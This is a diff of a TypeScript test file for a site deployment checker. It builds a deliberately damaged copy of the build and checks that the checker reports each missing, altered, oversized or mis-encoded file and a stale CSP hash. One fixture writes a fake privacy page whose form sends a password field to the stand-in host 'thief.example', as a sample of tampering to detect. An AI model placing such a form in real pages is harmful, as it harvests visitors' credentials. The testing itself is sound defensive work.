@@ -1,16 +1,25 @@
+import { execFile } from 'node:child_process'
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { createServer, type RequestListener } from 'node:http'
+import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { expect, it, onTestFinished } from 'vitest'
+import { promisify } from 'node:util'
+import { gzipSync } from 'node:zlib'
+import { afterAll, expect, it, onTestFinished } from 'vitest'
+import { encodingSuffixes } from '#server/publish/cache/encodings.ts'
 import { checkDeployment, type Finding } from '#server/publish/deploy/check-deployment.ts'
 import { checks } from '#server/publish/deploy/checks.ts'
 import { readExpected } from '#server/publish/deploy/expected.ts'
+import { headersOf } from '#server/publish/headers/header-set.ts'
 import { startCaddy } from './caddy.ts'
+import { selfSigned } from './certificate.ts'
 import { eachHost } from './each-host.ts'
 import { startLocal } from './local.ts'
 import { startNginx } from './nginx.ts'
 import { freePort } from './server.ts'
+import { startWrangler } from './wrangler.ts'
 
-const expected = await readExpected(join('dist', 'client'))
+const expected = readExpected(join('dist', 'client'))
 
 async function findings(port: number, hostName: string, patience = 60_000): Promise<Finding[]> {
   const found: Finding[] = []
@@ -27,8 +36,85 @@ await eachHost(
   ],
   ({ port, hostName }) => {
     it('does all that it must', async () => {
-      const names = checks.map(({ name }) => ({ name, faults: [] }))
-      expect(await findings(port, hostName)).toEqual(names)
+      expect((await findings(port, hostName)).flatMap(({ faults }) => faults)).toEqual([])
+    })
+  },
+)
+
+// It compresses by itself, and gives a French page the styles of others in its policy.
+await eachHost([{ name: 'wrangler', start: startWrangler }], ({ port, hostName }) => {
+  it('does what it must, but for what wrangler does otherwise than Cloudflare', async () => {
+    expect((await findings(port, hostName)).flatMap(({ faults }) => faults)).toEqual([
+      ...['/', '/rss.xml', '/llms-full.txt'].map((path) => `${path}: Vary does not name Accept-Encoding`),
+      ...['/_headers', '/_redirects'].map((path) => `${path}: status 502, not 404`),
+    ])
+  })
+})
+
+const folder = mkdtempSync(join(tmpdir(), 'cairnline-check-'))
+afterAll(() => rmSync(folder, { recursive: true, force: true }))
+const certificate = selfSigned(folder)
+
+await eachHost(
+  [{ name: 'nginx with TLS', start: async () => (certificate ? startNginx({ certificate }) : undefined) }],
+  ({ port, hostName }) => {
+    it('passes with a warning that its certificate ends tomorrow', async () => {
+      const command = ['server/publish/deploy/check.ts', `https://127.0.0.1:${port}`, '--as', hostName]
+      const env = { ...process.env, NODE_EXTRA_CA_CERTS: certificate?.certificate }
+      const { stdout } = await promisify(execFile)(process.execPath, command, { env })
+      expect(stdout).toMatch(
+        /\nwarn the certificate .*\n +www\.cairnline\.example: the certificate ends on .* GMT\. Renew it\.\n/,
+      )
+      expect(stdout).toContain(' does all that it must.')
+    })
+  },
+)
+
+/** A build of which a part never arrived, was replaced, or is of yesterday. */
+const damaged = join(folder, 'damaged')
+cpSync('dist', damaged, { recursive: true })
+const inDamaged = (file: string) => join(damaged, 'client', file)
+const [script = '', image = ''] = [/^assets\/.*\.js$/, /\.png$/].map((kind) =>
+  Object.keys(expected.files).find((file) => kind.test(file)),
+)
+for (const end of ['', ...encodingSuffixes]) rmSync(inDamaged(`${script}${end}`))
+writeFileSync(inDamaged('blog/cybersecurity-measures-protecting-gis.html'), '<p>Ours now</p>')
+writeFileSync(inDamaged('privacy.html.gz'), gzipSync('<form action="https://thief.example"><input type="password">'))
+writeFileSync(inDamaged('careers.html.gz'), 'no gzip')
+writeFileSync(inDamaged('404.html.gz'), gzipSync('<p>Gone</p>'))
+writeFileSync(inDamaged(image), Buffer.alloc(10_000_000))
+const ownStyles = /'sha256-[^']+'/.exec(/style-src [^;]*/.exec(expectedPolicy('/about'))?.[0] ?? '')?.[0] ?? ''
+for (const file of ['nginx.conf', 'Caddyfile']) {
+  const path = join(damaged, 'hosts', file)
+  writeFileSync(path, readFileSync(path, 'utf8').replaceAll(ownStyles, "'sha256-yesterday'"))
+}
+
+function expectedPolicy(path: string): string {
+  return headersOf(expected.headers, path, true)['Content-Security-Policy'] ?? ''
+}
+
+await eachHost(
+  [
+    { name: 'nginx with a damaged build', start: () => startNginx({ build: damaged }) },
+    { name: 'caddy with a damaged build', start: () => startCaddy({ build: damaged }) },
+  ],
+  ({ port, hostName }) => {
+    it('falls short, with each file named', async () => {
+      const faults = (await findings(port, hostName)).flatMap(({ faults }) => faults)
+      const changed = 'Does the host change files, or is this another build?'
+      expect(faults.toSorted()).toEqual(
+        [
+          `/${script}: status 404, not 200`,
+          `/${image}: longer than the ${expected.files[image]?.bytes} bytes of the build`,
+          `/blog/cybersecurity-measures-protecting-gis: not the bytes of the build. ${changed}`,
+          `/privacy: as gzip, not the bytes of the build. ${changed}`,
+          `/careers: as gzip, it does not decode to the ${expected.files['careers.html']?.bytes} bytes of the build`,
+          ...['/nowhere', '/x/y', '/about.htm', '/assets/missing.js'].map(
+            (path) => `${path}: as gzip, not the bytes of the build. ${changed}`,
+          ),
+          `/about: Content-Security-Policy has style-src 'self' 'sha256-yesterday', not style-src 'self' ${ownStyles}`,
+        ].toSorted(),
+      )
     })
   },
 )
@@ -48,7 +134,7 @@ async function host(answer: RequestListener): Promise<number> {
 it('a host that answers everything with one page falls short in every check of plain HTTP', async () => {
   const port = await host((_, response) => response.writeHead(200, { 'X-Robots-Tag': 'noindex' }).end('Welcome!'))
   const short = (await findings(port, 'localhost')).filter(({ faults }) => faults.length > 0)
-  expect(short.map(({ name }) => name)).toEqual(checks.slice(0, -1).map(({ name }) => name))
+  expect(short.map(({ name }) => name)).toEqual(checks.slice(0, -2).map(({ name }) => name))
 })
 
 it.each([
